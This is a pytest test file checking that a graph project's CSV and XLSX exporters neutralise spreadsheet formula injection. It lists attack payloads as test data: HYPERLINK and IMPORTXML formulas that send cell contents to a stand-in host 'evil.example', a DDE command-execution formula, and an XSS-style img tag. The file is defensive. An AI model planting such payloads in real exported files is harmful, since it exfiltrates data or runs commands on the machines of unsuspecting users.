"""Exports are safe to open: formula-looking cells are neutralised in CSV and XLSX (read back
with the csv module and openpyxl), and other values keep their type."""

from __future__ import annotations

import csv
import io

import pytest

from graph.export import TABLE_WRITERS, safe_cell, table_to_csv, table_to_xlsx

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
    "-@A1",
]
HARMLESS = ["Stowarzyszenie <img src=x onerror=alert(1)>", "a=b", "1 + 1", "", "Vězeňská služba"]
HEADER = ["title", "=header", "number", "negative"]


def rows() -> list[list[object]]:
    out: list[list[object]] = [[f, f, i, -i] for i, f in enumerate(FORMULAS, start=1)]
    out += [[h, h, 0, -0.5] for h in HARMLESS]
    return out


def test_safe_cell_contract() -> None:
    for value in FORMULAS:
        assert safe_cell(value) == "'" + value
    for value in HARMLESS:
        assert safe_cell(value) == value
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None


def test_csv_cells_are_neutralised() -> None:
    data = table_to_csv(HEADER, rows())
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so spreadsheets read the diacritics"
    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert table[0][1] == "'=header"
    for line in table:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), cell
    assert table[1][:2] == ["'" + FORMULAS[0], "'" + FORMULAS[0]]
    assert "Vězeňská služba" in data.decode("utf-8-sig")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_xlsx_cells_are_text_not_formulas() -> None:
    from openpyxl import load_workbook

    data = table_to_xlsx(HEADER, rows(), title="=evil sheet name that is far too long")
    wb = load_workbook(io.BytesIO(data))
    ws = wb.active
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == [], formulas
    values = [[c.value for c in row] for row in ws.iter_rows()]
    assert values[0] == ["title", "'=header", "number", "negative"]
    for i, formula in enumerate(FORMULAS, start=1):
        assert values[i][0] == "'" + formula
        assert values[i][2] == i and values[i][3] == -i, "numbers stay numbers"
    assert values[len(FORMULAS) + 1][0] == HARMLESS[0]


@pytest.mark.parametrize("fmt", sorted(TABLE_WRITERS))
def test_every_table_writer_neutralises(fmt: str) -> None:
    data = TABLE_WRITERS[fmt](["a"], [["=1+1"], ["@x"]])
    if fmt == "csv":
        assert b"'=1+1" in data and b"'@x" in data
    else:
        from openpyxl import load_workbook

        ws = load_workbook(io.BytesIO(data)).active
        assert [c.value for c in ws["A"]] == ["a", "'=1+1", "'@x"]


def test_network_edge_csv_is_neutralised() -> None:
    """The network's edge list goes through the same writer (organisation names are data)."""
    import networkx as nx

    from graph.network import edge_list_csv

    g = nx.Graph()
    evil = "https://w3id.org/praxisgraph/id/org/evil"
    other = "https://w3id.org/praxisgraph/id/org/b"
    g.add_node(evil, label='=HYPERLINK("http://x")', actor_type="ngo", projects=1)
    g.add_node(other, label="@SUM(1)", actor_type="-ngo", projects=1)
    g.add_edge(evil, other, weight=1, projects=["+p"], funders={"=f"}, years={2020})
    table = list(csv.reader(io.StringIO(edge_list_csv(g).decode("utf-8-sig"), newline="")))
    assert len(table) == 2
    for cell in table[1]:
        assert not cell.startswith(("=", "@", "+", "-")), cell
